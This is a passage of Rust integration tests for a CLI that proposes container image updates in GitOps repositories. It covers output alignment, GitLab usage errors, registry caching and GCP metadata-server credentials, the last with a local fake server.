        &[("deployment.yaml", deployment("from-dir", &format!("{image}:1.0.0")))],
    );
    local.commit("app in a directory");

    let plan = Plan::new().apps(remote.url()).apps(local.path()).json();

    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("from-url", "api", "1.0.0", "1.1.0");
    plan.assert_proposes("from-dir", "api", "1.0.0", "1.1.0");
    let file = plan.app("from-url")["file"].as_str().unwrap_or("").to_string();
    assert!(file.ends_with("apps/from-url.yaml"), "file names the manifest in the repository: {file}{plan}");
}

#[test]
fn table_output_is_aligned_and_shows_why_nothing_is_proposed() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/api", &["1.0.0", "1.1.0"]);
    reg.push_tags("team/payments-backend-service", &["2.0.0"]);
    let (api, payments) = (reg.image("team/api"), reg.image("team/payments-backend-service"));
    let git = GitRepo::new();
    // Every cell differs in width between the two rows, so only padding can align them.
    app_in(
        &git,
        app(&git, "a").image_list(&format!("api={api}:^1.0")),
        &[("deployment.yaml", deployment("a", &format!("{api}:1.0.0")))],
    );
    app_in(
        &git,
        app(&git, "payments-backend").namespace("team-payments-prod").image_list(&format!("payments-backend={payments}")),
        &[("deployment.yaml", deployment("payments-backend", &format!("{payments}:2.0.0")))],
    );
    git.commit("two apps");

    let json = Plan::new().apps(git.path()).json();
    json.assert_exit(0);
    json.assert_no_update("payments-backend", "payments-backend");
    let reason = json.image("payments-backend", "payments-backend")["reason"].as_str().unwrap().to_string();

    let table = Plan::new().apps(git.path()).table();
    table.assert_exit(0);
    let row = |needle: &str| -> String {
        // The table ends at the first blank line; the diffs that follow mention the image too.
        let rows: Vec<&str> =
            table.stdout.lines().take_while(|l| !l.is_empty()).filter(|l| l.contains(needle)).collect();
        assert_eq!(rows.len(), 1, "one row per image for {needle}{table}");
        rows[0].to_string()
    };
    let (api_row, payments_row) = (row("/team/api"), row("/team/payments-backend-service"));
    assert!(api_row.contains("1.1.0"), "the row shows the proposal{table}");
    assert!(payments_row.contains(&reason), "the row shows the reason {reason:?}{table}");

    // Columns start where the other row's columns start (up to the reason, which is free text).
    let starts = |line: &str, limit: usize| -> Vec<usize> {
        let b = line.as_bytes();
        (1..b.len().min(limit)).filter(|&i| b[i] != b' ' && b[i - 1] == b' ').collect()
    };
    let limit = payments_row.find(&reason).unwrap();
    let api_starts = starts(&api_row, limit);
    let common = starts(&payments_row, limit).into_iter().filter(|p| api_starts.contains(p)).count();
    assert!(common >= 2, "rows are not aligned in columns{table}");
}

#[test]
fn usage_errors_exit_2() {
    Plan::new().run().assert_exit(2);
    let dir = tempfile::tempdir().unwrap();
    Plan::new().apps(dir.path()).arg("--output").arg("yaml").run().assert_exit(2);
}

/// `--forge gitlab` without a usable token or with a plain-http server is a usage error naming
/// the flag, before anything is asked of any server; no flag takes the token itself.
#[test]
fn gitlab_usage_errors_exit_2_naming_the_flag() {
    let dir = tempfile::tempdir().unwrap();
    let gitlab = |args: &[&str]| {
        args.iter().fold(Plan::command(&["run", "--once", "--forge", "gitlab"]), |cmd, a| cmd.arg(a)).apps(dir.path())
    };
    let out = gitlab(&[]).run();
    out.assert_exit(2);
    assert!(out.stderr.contains("GITLAB_TOKEN") && out.stderr.contains("--gitlab-token-file"), "{out}");
    let out = gitlab(&["--gitlab-token", "glpat-x"]).run();
    out.assert_exit(2);
    let out = gitlab(&["--gitlab-token-env", "AIPR_UNSET_TOKEN_VAR"]).env("GITLAB_TOKEN", "glpat-x").run();
    out.assert_exit(2);
    assert!(out.stderr.contains("--gitlab-token-env AIPR_UNSET_TOKEN_VAR") && out.stderr.contains("not set"), "{out}");
    let empty = dir.path().join("token");
    std::fs::write(&empty, "\n").unwrap();
    let out = gitlab(&["--gitlab-token-file", empty.to_str().unwrap()]).run();
    out.assert_exit(2);
    assert!(out.stderr.contains("--gitlab-token-file") && out.stderr.contains("empty"), "{out}");
    let out = gitlab(&["--gitlab-url", "http://gitlab.example.com"]).env("GITLAB_TOKEN", "glpat-x").run();
    out.assert_exit(2);
    assert!(out.stderr.contains("--gitlab-url \"http://gitlab.example.com\"") && out.stderr.contains("--gitlab-allow-http"), "{out}");
    let out = gitlab(&["--gitlab-url", "gitlab.example.com"]).env("GITLAB_TOKEN", "glpat-x").run();
    out.assert_exit(2);
    assert!(out.stderr.contains("--gitlab-url"), "{out}");
    let config = dir.path().join("config.yaml");
    std::fs::write(&config, "forge: gitlub\n").unwrap();
    let out = Plan::command(&["run", "--once"]).arg("--config").arg(&config).apps(dir.path()).run();
    out.assert_exit(2);
    assert!(out.stderr.contains("gitlub") && out.stderr.contains("gitlab"), "{out}");
}

/// Issue 12, point 2: with `--cache-dir`, a second run lists the tags and asks only the builds
/// newer than the running one again (one `HEAD` each): an older build cannot be proposed, so
/// what the first run read of it is used (for ten minutes). Nothing is read again by digest;
/// the answers are the first run's.
#[test]
fn a_second_run_with_a_cache_dir_asks_only_newer_builds_again() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/worker", &["build-1", "build-2", "build-3"]);
    let image = reg.image("team/worker");
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "worker").image_list(&format!("worker={image}")).annotate("worker.update-strategy", "newest-build"),
        &[("kustomization.yaml", kustomization(&image, "build-2")), ("deployment.yaml", deployment("worker", &image))],
    );
    git.commit("worker runs build-2");
    let cache = tempfile::tempdir().unwrap();
    let run = || Plan::new().apps(git.path()).cache_dir(cache.path()).json();
    let requests = |plan: &support::cli::PlanOutput| plan.plan()["stats"]["registry_requests"].as_u64().unwrap();

    let first = run();
    first.assert_exit(0).assert_proposes("worker", "worker", "build-2", "build-3");
    assert_eq!(requests(&first), 1 + 3 * 2, "the tag list, each tag's manifest and config");
    let second = run();
    second.assert_exit(0).assert_proposes("worker", "worker", "build-2", "build-3");
    assert_eq!(second.image("worker", "worker"), first.image("worker", "worker"), "the same answers");
    assert_eq!(requests(&second), 1 + 1, "the tag list and a HEAD for build-3, the one build newer than the running one");
    assert_eq!(second.plan()["stats"]["registry_requests_by_registry"], serde_json::json!({reg.host(): 2}), "{second}");

    // build-3 rebuilt, build-4 new: both read.
    reg.push_image("team/worker", "build-3", &support::oci_push::ImageSpec::new(&support::registry::day(9), "rebuilt"));
    reg.push_image("team/worker", "build-4", &support::oci_push::ImageSpec::new(&support::registry::day(5), "new"));
    let third = run();
    third.assert_proposes("worker", "worker", "build-2", "build-3");
    assert_eq!(third.image("worker", "worker")["created"], support::registry::day(9), "{third}");
    assert_eq!(requests(&third), 1 + 1 + 2 + 2, "the list; build-3's HEAD, new manifest and config; build-4's manifest and config");
}

/// `credentials: gcp:` in registries.conf: the token of the (fake, documented-shape) GKE
/// metadata server, as user `oauth2accesstoken`, authenticates against the real registry.
#[test]
fn gcp_credentials_come_from_the_metadata_server() {
    let token = "ya29.c.metadata-token";
    let reg = TestRegistry::start(Auth::htpasswd("oauth2accesstoken", token));
    reg.push_tags("team/api", &["1.0.0", "1.1.0"]);
    let image = reg.image("team/api");
    // The metadata server: GET .../service-accounts/default/token with Metadata-Flavor: Google.
    let rt = tokio::runtime::Runtime::new().unwrap();
    let listener = rt.block_on(tokio::net::TcpListener::bind("127.0.0.1:0")).unwrap();
    let metadata = listener.local_addr().unwrap().to_string();
    let server = axum::Router::new().route(
        "/computeMetadata/v1/instance/service-accounts/default/token",
        axum::routing::get(move |headers: axum::http::HeaderMap| async move {
            if headers.get("metadata-flavor").and_then(|v| v.to_str().ok()) != Some("Google") {
                return (axum::http::StatusCode::FORBIDDEN, String::new());
            }
            (axum::http::StatusCode::OK, serde_json::json!({"access_token": token, "expires_in": 3599, "token_type": "Bearer"}).to_string())
        }),
    );
    rt.spawn(async move { axum::serve(listener, server).await.unwrap() });
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "api").image_list(&format!("api={image}:^1.0")),
        &[("kustomization.yaml", kustomization(&image, "1.0.0")), ("deployment.yaml", deployment("api", &image))],
    );
    git.commit("api");
    let dir = tempfile::tempdir().unwrap();
    let conf = dir.path().join("registries.conf");
    let host = reg.host();
    std::fs::write(&conf, format!("registries:\n- name: gar\n  prefix: {host}\n  api_url: http://{host}\n  credentials: \"gcp:\"\n")).unwrap();

    let plan = Plan::new().apps(git.path()).registries_conf(&conf).env("GCE_METADATA_HOST", &metadata).json();
    plan.assert_exit(0).assert_proposes("api", "api", "1.0.0", "1.1.0");
    // Without the metadata server: the image's error names the reference and where it looked.
    let plan = Plan::new().apps(git.path()).registries_conf(&conf).env("GCE_METADATA_HOST", "127.0.0.1:9").json();
    plan.assert_exit(1);
    let error = plan.image("api", "api")["error"].as_str().unwrap_or_default().to_string();
    assert!(error.contains("gcp:") && error.contains("127.0.0.1:9"), "{error}");
    drop(rt);
}
